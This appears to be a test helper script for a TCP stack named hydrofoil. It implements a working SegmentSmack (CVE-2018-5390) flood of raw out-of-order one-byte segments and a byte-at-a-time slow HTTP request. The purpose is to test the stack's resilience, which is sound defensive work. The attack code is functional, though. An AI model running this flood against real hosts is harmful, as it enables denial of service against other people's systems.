#!/usr/bin/python3
"""Peers that try to pin hydrofoil's mbuf pool (SegmentSmack, CVE-2018-5390, and kin).

  smack.py attack IFACE OUR_IP PEER_IP PORT SECONDS [GO_FILE]
      Opens a real connection (Linux's stack) to PORT, learns its sequence numbers
      from the wire, then injects one-byte out-of-order segments into it, sent raw on
      IFACE as fast as Python can: a trickle behind a hole that never fills, and
      islands at random places in hydrofoil's window. When hydrofoil resets the
      connection it opens another and goes on there. Prints "attacking" once the
      segments flow, and goes on until SIGTERM or SECONDS; then prints one JSON line:
      frames sent, rate, connections reset. The flood runs at nice 10. With GO_FILE, gets ready first (prints
      "ready") and starts once that file exists.
  smack.py trickle OUR_IP PORT NBYTES
      Sends an HTTP request head one byte per segment (TCP_NODELAY, a pause between
      writes) and stops NBYTES into a header value, the head unfinished; prints
      "ready" and waits for a line on stdin, then finishes the head, prints the
      status line of the answer as JSON, and exits.

Run inside the test's namespace.
"""
import json
import os
import random
import signal
import socket
import struct
import sys
import threading
import time

from scapy.all import IP, TCP, AsyncSniffer, Ether, Raw, conf, get_if_hwaddr
from scapy.utils import checksum

conf.verb = 0


class SynAcks:
    """Hydrofoil's SYN-ACKs on PORT, by our local port, from one sniffer for the whole run:
    each connection's sequence numbers, without a sniffer started (slowly, on a loaded
    host) for each."""

    def __init__(self, iface, our_ip, port):
        self.seen = {}
        started = threading.Event()
        self.sniffer = AsyncSniffer(
            iface=iface, store=False, started_callback=started.set,
            filter=f"tcp and src host {our_ip} and src port {port} and tcp[tcpflags] & tcp-syn != 0",
            prn=lambda p: self.seen.__setitem__(p[TCP].dport, p))
        self.sniffer.start()
        self.ok = started.wait(60)

    def wait(self, lport, seconds):
        end = time.time() + seconds
        while lport not in self.seen and time.time() < end:
            time.sleep(0.01)
        return self.seen.get(lport)


def connect(synacks, iface, our_ip, peer_ip, port):
    """Opens a connection (Linux's stack) to PORT; returns the socket and the attack's frames
    for it, or None."""
    s = socket.create_connection((our_ip, port), timeout=10)
    lport = s.getsockname()[1]
    s.sendall(b"x")
    synack = synacks.wait(lport, 10)
    if synack is None:
        s.close()
        return None
    our_mac = synack[Ether].src
    peer_mac = get_if_hwaddr(iface)
    snd_nxt = (synack[TCP].seq + 1) % 2**32      # what hydrofoil sends next: our ACK
    rcv_nxt = (synack[TCP].ack + 1) % 2**32      # after the one byte sent
    rnd = random.Random(11)

    # One frame built by scapy; the others differ in the sequence number and checksum only.
    tmpl = bytearray(bytes(Ether(src=peer_mac, dst=our_mac) / IP(src=peer_ip, dst=our_ip) /
                           TCP(sport=lport, dport=port, flags="A", seq=0, ack=snd_nxt,
                               window=65535) / Raw(b"s")))
    pseudo = socket.inet_aton(peer_ip) + socket.inet_aton(our_ip) + struct.pack("!BBH", 0, 6, 21)

    def frame(seq):
        f = bytearray(tmpl)
        struct.pack_into("!I", f, 38, seq % 2**32)
        f[50:52] = b"\0\0"
        struct.pack_into("!H", f, 50, checksum(pseudo + bytes(f[34:55])))
        return bytes(f)

    # Each pass: a trickle, byte after byte behind a hole (rcv_nxt + 1 is never sent), first,
    # so that its run exists before the islands take the others; then islands, one byte alone
    # between two holes each, anywhere in a 200 KB stretch of the window.
    frames = [frame(rcv_nxt + 210_000 + i) for i in range(3000)]
    frames += [frame(rcv_nxt + 2 + 2 * rnd.randrange(100_000)) for _ in range(3000)]
    s.setblocking(False)
    return s, frames


def was_reset(s):
    """True once hydrofoil reset the connection (its RST reached Linux's socket)."""
    try:
        s.recv(1)
    except BlockingIOError:
        return False
    except OSError:
        return True
    return False


def attack(iface, our_ip, peer_ip, port, seconds, go_file=None):
    synacks = SynAcks(iface, our_ip, port)
    if go_file is not None:
        print("ready", flush=True)
        while not os.path.exists(go_file):
            time.sleep(0.05)
    got = connect(synacks, iface, our_ip, peer_ip, port) if synacks.ok else None
    if got is None:
        print(json.dumps({"error": "no SYN-ACK seen"}))
        return 1
    # The flood at nice 10 (this thread only; the sniffer keeps its priority): on a machine
    # that also runs hydrofoil, the CPU this loop burns is the worker's (see test_tcp_smack.sh).
    os.nice(10)
    s, frames = got
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((iface, 0))
    sent = resets = 0
    t0 = time.time()
    print("attacking", flush=True)
    while not stop and time.time() - t0 < seconds:
        for i, f in enumerate(frames):
            raw.send(f)
            if i % 512 == 511 and stop:
                break
        sent += i + 1
        # Reset: a new connection, and the same again on it (as a real attacker would).
        if was_reset(s):
            resets += 1
            s.close()
            got = connect(synacks, iface, our_ip, peer_ip, port)
            if got is None:
                break
            s, frames = got
    dt = time.time() - t0
    raw.close()
    s.close()
    print(json.dumps({"frames": sent, "seconds": round(dt, 2), "pps": round(sent / dt),
                      "resets": resets}), flush=True)
    return 0


def trickle(our_ip, port, nbytes):
    s = socket.create_connection((our_ip, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    head = b"GET /trickle HTTP/1.1\r\nHost: smack.test\r\nX-Pad: "
    for b in head + b"a" * nbytes:
        s.send(bytes([b]))
        time.sleep(0.0005)
    print("ready", flush=True)
    sys.stdin.readline()
    s.sendall(b"\r\n\r\n")
    s.settimeout(10)
    try:
        status = s.recv(4096).split(b"\r\n", 1)[0].decode(errors="replace")
    except OSError as e:
        status = repr(e)
    s.close()
    print(json.dumps({"status": status}), flush=True)
    return 0


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "attack":
        rc = attack(sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), float(sys.argv[6]),
                    sys.argv[7] if len(sys.argv) > 7 else None)
        # Out at once: stopping the sniffer (and scapy's clean-up) took seconds on a loaded host.
        sys.stdout.flush()
        os._exit(rc)
    if cmd == "trickle":
        sys.exit(trickle(sys.argv[2], int(sys.argv[3]), int(sys.argv[4])))
    sys.exit(__doc__)
